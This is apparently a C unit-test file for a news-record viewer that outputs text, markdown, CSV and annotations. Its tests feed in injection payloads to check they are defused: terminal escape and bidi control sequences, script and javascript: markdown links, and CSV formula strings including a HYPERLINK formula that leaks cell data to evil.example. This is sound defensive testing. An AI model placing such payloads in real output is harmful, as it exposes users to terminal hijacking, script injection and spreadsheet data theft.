/* test_view.c -- records in every format. */
#include "made_pages.h"
#include "view/view.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>

#include <cmocka.h>

typedef struct state {
    dli_arena arena;
    dli_arena scratch;
} state;

static int setup(void **ptr)
{
    static state s; /* one test at a time */

    dli_arena_init(&s.arena, (size_t)64 << 20);
    dli_arena_init(&s.scratch, (size_t)64 << 20);
    *ptr = &s;
    return 0;
}

static int teardown(void **ptr)
{
    state *s = *ptr;

    dli_arena_done(&s->arena);
    dli_arena_done(&s->scratch);
    return 0;
}

/* All of `records` in a format, as a zero-ended string. */
static const char *view(state *s, dli_format format, const dl_str *records, size_t count)
{
    dli_view view = { .format = format };
    dli_buf out;

    dli_buf_init(&out, &s->arena);
    dli_view_begin(&view, &out);
    for (size_t i = 0; i < count; i++) {
        dl_error err;
        dli_arena_reset(&s->scratch);
        assert_int_equal(dli_view_print(&view, &out, &s->scratch, records[i], DL_STR(""), &err),
                         DL_OK);
    }
    dli_view_end(&view, &out);
    assert_false(out.failed);
    return dli_arena_copy(&s->arena, dli_buf_str(&out)).ptr;
}

static const char *view_page(state *s, dli_format format, size_t page)
{
    dl_str record = made_record(&s->arena, &made_pages[page]);

    return view(s, format, &record, 1);
}

static void assert_has(const char *text, const char *words)
{
    if (strstr(text, words) == NULL)
        fail_msg("'%s' is not in:\n%s", words, text);
}

static void assert_lacks(const char *text, const char *words)
{
    if (strstr(text, words) != NULL)
        fail_msg("'%s' is in:\n%s", words, text);
}

/* ---- Formats by name ------------------------------------------------------ */

static void formats_are_found_by_name(void **ptr)
{
    dli_format format;

    (void)ptr;
    for (int i = 0; i < DLI_FORMAT_COUNT; i++) {
        const dli_format_info *info = dli_format_of((dli_format)i);
        assert_true(dli_format_find(dli_str(info->name), &format));
        assert_int_equal(format, i);
        assert_true(strlen(info->ending) > 0 && strlen(info->what) > 0);
    }
    assert_false(dli_format_find(DL_STR("xml"), &format));
    assert_false(dli_format_find(DL_STR(""), &format));
}

/* ---- jsonl, json ---------------------------------------------------------- */

static void json_is_one_array_of_the_records(void **ptr)
{
    state *s = *ptr;
    dl_str records[] = { DL_STR("{\"record\":1}"), DL_STR("{\"id\":\"7\",\"error\":{}}") };

    assert_string_equal(view(s, DLI_FORMAT_json, records, 2),
                        "[\n{\"record\":1},\n{\"id\":\"7\",\"error\":{}}\n]\n");
    assert_string_equal(view(s, DLI_FORMAT_json, records, 0), "[]\n");
    assert_string_equal(view(s, DLI_FORMAT_jsonl, records, 2),
                        "{\"record\":1}\n{\"id\":\"7\",\"error\":{}}\n");
}

static void what_is_no_record_is_refused(void **ptr)
{
    state *s = *ptr;
    static const char *const bad[] = { "", "[]", "{", "null", "{\"a\":1}x", "\xff" };

    for (int f = 0; f < DLI_FORMAT_COUNT; f++)
        for (size_t i = 0; i < sizeof bad / sizeof *bad; i++) {
            dli_view view = { .format = (dli_format)f };
            dl_error err = { .status = DL_OK };
            dli_buf out;
            dli_buf_init(&out, &s->arena);
            dli_view_begin(&view, &out);
            assert_int_equal(
                dli_view_print(&view, &out, &s->scratch, dli_str(bad[i]), DL_STR(""), &err),
                DL_ERR_FORMAT);
            assert_int_equal(err.status, DL_ERR_FORMAT);
        }
}

/* Records of a hostile store: every key of the wrong kind. */
static void wrong_kinds_read_as_absent(void **ptr)
{
    state *s = *ptr;
    static const char *const odd[] = {
        "{}",
        "{\"items\":7,\"notes\":\"x\",\"publisher\":[],\"file\":{}}",
        "{\"items\":[7,null,\"x\",[],{}]}",
        "{\"items\":[{\"statements\":[1,\"x\",null,{\"source\":3,\"via\":{},\"at\":[1],"
        "\"in\":[[1,2,3],[9,4],[-1,2],[0,4294967296],[5,99999]]}],\"evidence\":[],"
        "\"entities\":[3,{\"id\":\"\"}],\"articleBody\":7,\"headline\":{},\"blocks\":[4,{}]}]}",
        "{\"items\":[{\"articleBody\":\"a b\",\"blocks\":[{\"in\":[2,3]},{\"in\":[0,1]},"
        "{\"in\":[7,900]}],\"incidents\":[{\"date\":\"x\",\"figures\":[{},[],7]}],"
        "\"evidence\":{\"headline\":7,\"author\":{\"at\":[[0,4000000000]]}}}]}",
        "{\"error\":{\"what\":7}}",
    };

    for (int f = 0; f < DLI_FORMAT_COUNT; f++)
        for (size_t i = 0; i < sizeof odd / sizeof *odd; i++) {
            dl_str record = dli_str(odd[i]);
            dli_view view = { .format = (dli_format)f };
            dli_buf out;
            dli_buf_init(&out, &s->arena);
            dli_view_begin(&view, &out);
            assert_int_equal(
                dli_view_print(&view, &out, &s->scratch, record, DL_STR("short"), NULL), DL_OK);
            dli_view_end(&view, &out);
        }
}

static void memory_that_runs_out_is_said(void **ptr)
{
    state *s = *ptr;
    dl_str record = made_record(&s->arena, &made_pages[0]);

    for (int f = 0; f < DLI_FORMAT_COUNT; f++) {
        bool done = false;
        for (size_t budget = 0; !done; budget += 1500) {
            dli_arena scratch;
            dli_view view = { .format = (dli_format)f };
            dli_buf out;
            dl_error err;
            dli_arena_init(&scratch, budget);
            dli_buf_init(&out, &s->arena);
            dli_view_begin(&view, &out);
            dl_status status = dli_view_print(&view, &out, &scratch, record, DL_STR(""), &err);
            assert_true(status == DL_OK || status == DL_ERR_NOMEM);
            done = status == DL_OK;
            dli_arena_done(&scratch);
        }
    }
}

/* ---- One item ------------------------------------------------------------- */

static void only_one_item_is_left(void **ptr)
{
    state *s = *ptr;
    dl_str record =
               DL_STR("{\"record\":1,\"items\":[{\"id\":\"a#1\",\"x\":\"]\"},{\"id\":\"a#2\"},"
                      "{\"id\":\"a#3\"}],\"notes\":[]}"),
           out;

    assert_int_equal(dli_view_only(&s->arena, record, DL_STR("a#2"), &out, NULL), DL_OK);
    assert_string_equal(dli_arena_copy(&s->arena, out).ptr,
                        "{\"record\":1,\"items\":[{\"id\":\"a#2\"}],\"notes\":[]}");
    assert_int_equal(dli_view_only(&s->arena, record, DL_STR("a#4"), &out, NULL),
                     DL_ERR_FORMAT);
    assert_int_equal(dli_view_only(&s->arena, record, DL_STR(""), &out, NULL), DL_ERR_FORMAT);
}

/* ---- Terminals ------------------------------------------------------------ */

static void terminals_get_no_controls(void **ptr)
{
    state *s = *ptr;
    static const struct {
        const char *name, *text, *shown;
        size_t width;
    } cases[] = {
        { "plain text stays", "Ana Costa", "Ana Costa", 9 },
        { "letters of any script stay", "Міст, été, 港", "Міст, été, 港", 13 },
        { "an escape sequence is seen", "\x1b[2J", "<1B>[2J", 7 },
        { "a bell, a backspace, a delete", "a\a\b\x7f", "a<07><08><7F>", 13 },
        { "C1 controls, which some terminals obey",
          "\xc2\x9b"
          "31m",
          "<9B>31m", 7 },
        { "a line end would forge a line", "a\nERROR", "a<0A>ERROR", 10 },
        { "a carriage return would overwrite", "a\rb", "a<0D>b", 6 },
        { "line separators",
          "a\xe2\x80\xa8"
          "b",
          "a<U+2028>b", 10 },
        { "right-to-left override", "\xe2\x80\xaegnp.exe", "<U+202E>gnp.exe", 15 },
        { "isolates", "\xe2\x81\xa6x\xe2\x81\xa9", "<U+2066>x<U+2069>", 17 },
        { "zero width and byte order marks", "\xe2\x80\x8b\xef\xbb\xbf", "<U+200B><U+FEFF>",
          16 },
        { "tags", "\xf3\xa0\x81\x81", "<U+E0041>", 9 },
        { "a soft hyphen goes",
          "Haf\xc2\xad"
          "en",
          "Hafen", 5 },
        { "ill-formed bytes", "a\xff\xc3", "a\xef\xbf\xbd\xef\xbf\xbd", 3 },
        { "a combining accent has no width", "e\xcc\x81", "e\xcc\x81", 1 },
        { "nothing", "", "", 0 },
    };

    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        dli_buf out;
        dli_buf_init(&out, &s->arena);
        dli_terminal_add(&out, dli_str(cases[i].text));
        dl_str shown = dli_arena_copy(&s->arena, dli_buf_str(&out));
        if (strcmp(shown.ptr, cases[i].shown) != 0)
            fail_msg("%s: '%s'", cases[i].name, shown.ptr);
        if (dli_terminal_width(dli_str(cases[i].text)) != cases[i].width)
            fail_msg("%s: %zu columns", cases[i].name,
                     dli_terminal_width(dli_str(cases[i].text)));
    }
}

/* No format for people may hold a byte that a terminal obeys, whatever was read. */
static void text_has_no_controls_in_any_field(void **ptr)
{
    state *s = *ptr;
    static const char evil[] = "\x1b]52;c;ZWNo\a \xc2\x9b"
                               "2J \xe2\x80\xae \x7f";
    made_page page = {
        .file = evil,
        .url = evil,
        .publisher = evil,
        .language = evil,
        .headline = evil,
        .abstract = evil,
        .author = evil,
        .published = evil,
        .paragraphs = { evil },
        .statements = { { evil, evil, evil, evil, evil, evil, evil, { evil }, evil, evil } },
        .incidents = { { evil,
                         evil,
                         evil,
                         evil,
                         evil,
                         evil,
                         evil,
                         evil,
                         evil,
                         evil,
                         { { evil, evil, evil, evil, evil, -1, -1, -1 } },
                         evil } }
    };
    dl_str record = made_record(&s->arena, &page);
    const char *text = view(s, DLI_FORMAT_text, &record, 1);

    for (size_t i = 0; text[i] != 0; i++)
        assert_true((unsigned char)text[i] >= 0x20 || text[i] == '\n');
    assert_lacks(text, "\x7f");
    assert_lacks(text, "\xc2\x9b");
    assert_lacks(text, "\xe2\x80\xae");
}

/* ---- text ----------------------------------------------------------------- */

static void text_reads_from_top_to_bottom(void **ptr)
{
    const char *text = view_page(*ptr, DLI_FORMAT_text, 0);

    assert_has(text,
               "Ferry service resumes after storm\nby Lena Marsh · Harbour Wire · 2024-03-05 "
               "17:40 +00:00 · en · article\n");
    assert_has(text, "\nWho said what\n 1  Ana Costa, the harbour master · neutral · direct\n");
    assert_has(text, "    “We waited for the swell to drop”\n");
    assert_has(text, " 2  She (Ana Costa) · warn · indirect\n");
    assert_has(text, "through a commentator of Radio Saltmere ← Radio Saltmere\n");
    assert_has(text, "\nWhat happened\n 1  accident · Saltmere · 2024-03-03\n");
    assert_has(text, "      wounded: at least 3 people (\"At least three people\") · bytes ");
    assert_has(text, "whose account: the coast guard\n");
    assert_has(text, "\nWhere it came from\n    headline · heading · bytes ");
}

static void text_keeps_its_width(void **ptr)
{
    state *s = *ptr;
    static const unsigned widths[] = { 1, 40, 72, 200 };

    for (size_t w = 0; w < sizeof widths / sizeof *widths; w++)
        for (size_t p = 0; p < MADE_PAGES; p++) {
            dli_view view = { .format = DLI_FORMAT_text, .width = widths[w] };
            dl_str record = made_record(&s->arena, &made_pages[p]), text, line;
            dli_buf out;
            dli_buf_init(&out, &s->arena);
            dli_view_begin(&view, &out);
            assert_int_equal(dli_view_print(&view, &out, &s->scratch, record, DL_STR(""), NULL),
                             DL_OK);
            for (text = dli_buf_str(&out); dli_split(&text, '\n', &line);)
                assert_true(dli_terminal_width(line) <= view.width);
        }
}

static void text_shows_the_words_at_the_bytes(void **ptr)
{
    state *s = *ptr;
    dl_str record = made_record(&s->arena, &made_pages[0]);
    dl_str source = made_source(&s->arena, &made_pages[0]);
    dli_view view = { .format = DLI_FORMAT_text };
    dli_buf out;

    dli_buf_init(&out, &s->arena);
    dli_view_begin(&view, &out);
    assert_int_equal(dli_view_print(&view, &out, &s->scratch, record, source, NULL), DL_OK);
    assert_has(dli_arena_copy(&s->arena, dli_buf_str(&out)).ptr, ": Lena Marsh\n");
}

static void pages_without_items_and_bad_lines_are_said(void **ptr)
{
    state *s = *ptr;
    dl_str records[] = {
        DL_STR("{\"record\":1,\"file\":\"shop.html\",\"pageKind\":\"product\"}"),
        DL_STR("{\"id\":\"7\",\"file\":\"gone.html\",\"error\":{\"status\":2,\"what\":"
               "\"'gone.html' does not exist\",\"where\":\"list.jsonl, line 7\",\"fix\":"
               "\"check the name\"}}"),
    };
    const char *text = view(s, DLI_FORMAT_text, records, 2);
    const char *markdown = view(s, DLI_FORMAT_markdown, records, 2);
    const char *csv = view(s, DLI_FORMAT_csv, records, 2);
    const char *annotations = view(s, DLI_FORMAT_annotations, records, 2);

    assert_has(text, "shop.html · no news item found; page kind: product");
    assert_has(text, "gone.html · not read: 'gone.html' does not exist (list.jsonl, line 7); "
                     "check the\nname");
    assert_has(markdown, "**gone.html** — not read: 'gone.html' does not exist");
    assert_has(csv, "gone.html,,,error,7,");
    assert_has(csv, "\"'gone.html' does not exist (list.jsonl, line 7); check the name\"");
    assert_has(csv, "shop.html,,,pageKind,pageKind,");
    assert_has(annotations, "\"motivation\":\"commenting\"");
    assert_has(annotations, "\"target\":\"gone.html\"");
}

/* ---- markdown ------------------------------------------------------------- */

static void markdown_of_a_page(void **ptr)
{
    const char *text = view_page(*ptr, DLI_FORMAT_markdown, 0);

    assert_has(text, "# Ferry service resumes after storm\n\n*Crossings between");
    assert_has(text, "- by Lena Marsh\n- Publisher: Harbour Wire\n- Published: 2024");
    assert_has(text, "- Address: <https://www.harbourwire.example/2024/03/05/ferry>\n");
    assert_has(text, "## Who said what\n\n- **Ana Costa** — neutral, direct: We waited");
    assert_has(text,
               "- **fishermen**, through a commentator of Radio Saltmere ← Radio Saltmere");
    assert_has(text, "  | wounded | at least 3 people | At least three people (bytes ");
}

static void markdown_of_a_page_is_never_markup(void **ptr)
{
    state *s = *ptr;
    static const struct {
        const char *name, *text, *shown;
    } cases[] = {
        { "HTML", "<script>alert(1)</script>", "&lt;script\\>alert(1)&lt;/script\\>" },
        { "a link", "[x](javascript:alert(1))", "\\[x\\](javascript:alert(1))" },
        { "a picture", "![x](//evil.example)", "!\\[x\\](//evil.example)" },
        { "emphasis and code", "*a* _b_ `c` ~~d~~", "\\*a\\* \\_b\\_ \\`c\\` \\~\\~d\\~\\~" },
        { "a heading", "# x", "\\# x" },
        { "a list", "- x", "\\- x" },
        { "a numbered list", "12. x", "12\\. x" },
        { "a rule below", "===", "\\===" },
        { "a table", "a|b", "a\\|b" },
        { "an entity", "&lt;b>", "&amp;lt;b\\>" },
        { "a backslash", "\\", "\\\\" },
        { "lines and spaces", "  a\n\n    b\tc ", "a b c" },
    };

    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        made_page page = { .headline = cases[i].text, .paragraphs = { cases[i].text } };
        dl_str record = made_record(&s->arena, &page);
        char expected[200];
        (void)snprintf(expected, sizeof expected, "# %s\n\n", cases[i].shown);
        assert_has(view(s, DLI_FORMAT_markdown, &record, 1), expected);
    }
}

/* ---- csv ------------------------------------------------------------------ */

static const char csv_head[] =
    "file,url,item,fact,id,type,kind,status,stance,cue,source,source_type,role,speaker,via,"
    "addressee,content,date,date_precision,date_basis,place,actors,target,what,value,min,max,"
    "bound,of,scope,parent,text,how,at,in\r\n";

/* A reader of RFC 4180 with our one rule on apostrophes: the cells of the next row. */
static size_t read_row(const char **at, char cells[40][400])
{
    size_t count = 0, len = 0;
    bool quoted = false;
    const char *p = *at;

    for (; *p != 0; p++) {
        if (quoted ? *p == '"' && p[1] == '"' : false) {
            cells[count][len++] = *p++;
        } else if (*p == '"') {
            quoted = !quoted;
        } else if (!quoted && (*p == ',' || (*p == '\r' && p[1] == '\n'))) {
            cells[count++][len] = 0;
            len = 0;
            if (*p == '\r') {
                *at = p + 2;
                return count;
            }
        } else {
            assert_true(len < 399);
            cells[count][len++] = *p;
        }
    }
    return 0;
}

static void csv_has_a_row_for_each_fact(void **ptr)
{
    const char *text = view_page(*ptr, DLI_FORMAT_csv, 0);

    assert_memory_equal(text, csv_head, sizeof csv_head - 1);
    assert_has(text, ",headline,headline,,,,,,,,,,,,,,,,,,,,,,,,,,,Ferry service resumes after "
                     "storm,heading,");
    assert_has(text, ",author,author/1,Person,");
    assert_has(text,
               ",statement,#1s3,,indirect,,claim,said,fishermen,group,,fishermen,a commentator "
               "of Radio Saltmere < Radio Saltmere,,Up to 40 boats were damaged,");
    assert_has(text, ",incident,#1i1,accident,,reported,,,the coast guard,");
    assert_has(
        text, ",figure,#1i1/figure/1,accident,,reported,,,the coast guard,,,,,,,2024-03-03,day,"
              "relative,Saltmere,,,wounded,3,,,atLeast,people,incident,#1i1,At least three "
              "people,,");
}

static void csv_columns_are_the_same_in_every_row(void **ptr)
{
    state *s = *ptr;

    for (size_t p = 0; p < MADE_PAGES; p++) {
        const char *at = view_page(s, DLI_FORMAT_csv, p);
        char(*cells)[400] = dli_arena_take(&s->arena, 40 * sizeof *cells);
        while (*at != 0)
            assert_int_equal(read_row(&at, cells), 35);
    }
}

static void csv_cells_are_not_computed(void **ptr)
{
    state *s = *ptr;
    static const struct {
        const char *text;
        bool defused;
    } cases[] = {
        { "=1+1", true },       { "+1+1", true },
        { "-1+1", true },       { "@SUM(1,1)", true },
        { "\t=1+1", true },     { "\r=1+1", true },
        { "\n=1+1", true },     { " =1+1", true },
        { "   -x", true },      { "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", true },
        { "＝1+1", true },      { "＋1", true },
        { "－1", true },        { "＠1", true },
        { "'=1+1", true },      { "''= x", true },
        { "\"=1+1\"", false },  { ";=1+1", false },
        { "|x", false },        { "0x1", false },
        { "1e5", false },       { "a,b", false },
        { "a\"b", false },      { "a\nb", false },
        { "a\rb", false },      { "'tis", false },
        { "Ana Costa", false }, { " ", false },
        { "'", false },         { "--02-11", true },
    };

    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        made_page page = { .headline = "x" };
        char(*cells)[400] = dli_arena_take(&s->arena, 40 * sizeof *cells);
        page.headline = cases[i].text;
        dl_str record = made_record(&s->arena, &page);
        const char *at = view(s, DLI_FORMAT_csv, &record, 1) + sizeof csv_head - 1;
        do
            assert_int_equal(read_row(&at, cells), 35);
        while (strcmp(cells[3], "headline") != 0);
        const char *cell = cells[31];
        assert_int_equal(cell[0] == '\'' && strcmp(cell + 1, cases[i].text) == 0,
                         cases[i].defused);
        assert_string_equal(cell + cases[i].defused, cases[i].text);
    }
}

static void csv_raw_leaves_cells_alone(void **ptr)
{
    state *s = *ptr;
    made_page page = { .headline = "=1+1" };
    dl_str record = made_record(&s->arena, &page);
    dli_view view = { .format = DLI_FORMAT_csv, .raw = true };
    dli_buf out;

    dli_buf_init(&out, &s->arena);
    dli_view_begin(&view, &out);
    assert_int_equal(dli_view_print(&view, &out, &s->scratch, record, DL_STR(""), NULL), DL_OK);
    assert_has(dli_arena_copy(&s->arena, dli_buf_str(&out)).ptr, ",=1+1,");
}

/* ---- annotations ---------------------------------------------------------- */

static uint32_t find_annotation(const dli_json *json, const char *end, dli_arena *arena)
{
    for (uint32_t v = dli_record_list(json, 1, "items"); v != 0; v = dli_json_at(json, v)->next)
        if (dli_ends(dli_json_get_str(json, v, "id", arena), dli_str(end)))
            return v;
    fail_msg("no annotation '%s'", end);
    return 0;
}

static void annotations_point_at_their_words(void **ptr)
{
    state *s = *ptr;
    dl_str source = made_source(&s->arena, &made_pages[3]);
    const char *text = view_page(s, DLI_FORMAT_annotations, 3);
    dli_json json;

    assert_int_equal(dli_json_parse(&s->arena, dli_str(text), DLI_JSON_STRICT, &json, NULL),
                     DL_OK);
    assert_string_equal(
        dli_arena_copy(&s->arena, dli_json_get_str(&json, 1, "type", &s->arena)).ptr,
        "AnnotationPage");
    uint32_t one = find_annotation(&json, "#1s1", &s->arena);
    uint32_t target = dli_json_get(&json, one, "target");
    assert_true(dli_eq(dli_json_get_str(&json, target, "source", &s->arena),
                       DL_STR("https://vilnyi-step.example/news/1187")));
    uint32_t data = dli_record_list(&json, target, "selector");
    uint32_t points = dli_json_at(&json, data)->next, quote = dli_json_at(&json, points)->next;
    uint64_t start, end;
    assert_true(dli_json_get_u64(&json, data, "start", &start));
    assert_true(dli_json_get_u64(&json, data, "end", &end));
    dl_str exact = dli_json_get_str(&json, quote, "exact", &s->arena);
    assert_true(dli_eq(dli_slice(source, start, end), exact));
    assert_true(dli_json_get_u64(&json, points, "start", &start));
    assert_true(dli_json_get_u64(&json, points, "end", &end));
    assert_int_equal(start, 0);
    assert_int_equal(end, dli_utf8_count(exact));
    assert_true(dli_eq(dli_json_get_str(&json, quote, "suffix", &s->arena), DL_STR(".")));
    assert_true(
        dli_eq(dli_json_get_str(&json, dli_json_get(&json, one, "fact"), "stance", &s->arena),
               DL_STR("neutral")));
}

static void annotations_of_several_stretches(void **ptr)
{
    state *s = *ptr;
    dl_str record = DL_STR(
        "{\"sha256\":\"ab\",\"items\":[{\"id\":\"sha256:ab#1\",\"articleBody\":\"one two "
        "three four\",\"statements\":[{\"id\":\"s1\",\"at\":[[5,8],[20,25]],\"in\":[[0,3],"
        "[8,13]]},{\"id\":\"s2\",\"at\":[[5,8],[20,25]],\"in\":[0,7]}]}]}");
    const char *text = view(s, DLI_FORMAT_annotations, &record, 1);

    assert_has(text,
               "\"target\":[{\"source\":\"sha256:ab\",\"selector\":[{\"type\":"
               "\"DataPositionSelector\",\"start\":5,\"end\":8},{\"type\":"
               "\"TextPositionSelector\",\"start\":0,\"end\":3},{\"type\":"
               "\"TextQuoteSelector\",\"exact\":\"one\",\"suffix\":\" two three four\"}]},{");
    assert_has(text, "\"start\":20,\"end\":25},{\"type\":\"TextPositionSelector\",\"start\":8,"
                     "\"end\":13}");
    assert_has(text, "\"target\":{\"source\":\"sha256:ab\",\"selector\":[{\"type\":"
                     "\"DataPositionSelector\",\"start\":5,\"end\":25}");
}

static void annotations_are_json_for_every_page(void **ptr)
{
    state *s = *ptr;

    for (size_t p = 0; p < MADE_PAGES; p++) {
        const char *text = view_page(s, DLI_FORMAT_annotations, p);
        dli_json json;
        assert_int_equal(dli_json_parse(&s->arena, dli_str(text), DLI_JSON_STRICT, &json, NULL),
                         DL_OK);
    }
}

/* ---- Links ---------------------------------------------------------------- */

static void only_web_addresses_are_links(void **ptr)
{
    static const struct {
        const char *url;
        bool web;
    } cases[] = {
        { "https://harbourwire.example/a?b=c#d", true },
        { "HTTP://harbourwire.example", true },
        { "http://[::1]/", true },
        { "https://міст.example/річка", true },
        { "javascript:alert(1)", false },
        { "javascript://harbourwire.example/%0aalert(1)", false },
        { " https://harbourwire.example", false },
        { "https:/harbourwire.example", false },
        { "https://", false },
        { "http:///x", false },
        { "//harbourwire.example", false },
        { "data:text/html,x", false },
        { "https://harbourwire.example/\"onclick", false },
        { "https://harbourwire.example/a b", false },
        { "https://harbourwire.example/\nx", false },
        { "ftp://harbourwire.example", false },
        { "", false },
    };

    (void)ptr;
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++)
        if (dli_is_web_url(dli_str(cases[i].url)) != cases[i].web)
            fail_msg("%s", cases[i].url);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(formats_are_found_by_name),
        cmocka_unit_test_setup_teardown(json_is_one_array_of_the_records, setup, teardown),
        cmocka_unit_test_setup_teardown(what_is_no_record_is_refused, setup, teardown),
        cmocka_unit_test_setup_teardown(wrong_kinds_read_as_absent, setup, teardown),
        cmocka_unit_test_setup_teardown(memory_that_runs_out_is_said, setup, teardown),
        cmocka_unit_test_setup_teardown(only_one_item_is_left, setup, teardown),
        cmocka_unit_test_setup_teardown(terminals_get_no_controls, setup, teardown),
        cmocka_unit_test_setup_teardown(text_has_no_controls_in_any_field, setup, teardown),
        cmocka_unit_test_setup_teardown(text_reads_from_top_to_bottom, setup, teardown),
        cmocka_unit_test_setup_teardown(text_keeps_its_width, setup, teardown),
        cmocka_unit_test_setup_teardown(text_shows_the_words_at_the_bytes, setup, teardown),
        cmocka_unit_test_setup_teardown(pages_without_items_and_bad_lines_are_said, setup,
                                        teardown),
        cmocka_unit_test_setup_teardown(markdown_of_a_page, setup, teardown),
        cmocka_unit_test_setup_teardown(markdown_of_a_page_is_never_markup, setup, teardown),
        cmocka_unit_test_setup_teardown(csv_has_a_row_for_each_fact, setup, teardown),
        cmocka_unit_test_setup_teardown(csv_columns_are_the_same_in_every_row, setup, teardown),
        cmocka_unit_test_setup_teardown(csv_cells_are_not_computed, setup, teardown),
        cmocka_unit_test_setup_teardown(csv_raw_leaves_cells_alone, setup, teardown),
        cmocka_unit_test_setup_teardown(annotations_point_at_their_words, setup, teardown),
        cmocka_unit_test_setup_teardown(annotations_of_several_stretches, setup, teardown),
        cmocka_unit_test_setup_teardown(annotations_are_json_for_every_page, setup, teardown),
        cmocka_unit_test(only_web_addresses_are_links),
    };

    cmocka_set_message_output(CM_OUTPUT_TAP);
    return cmocka_run_group_tests(tests, NULL, NULL);
}
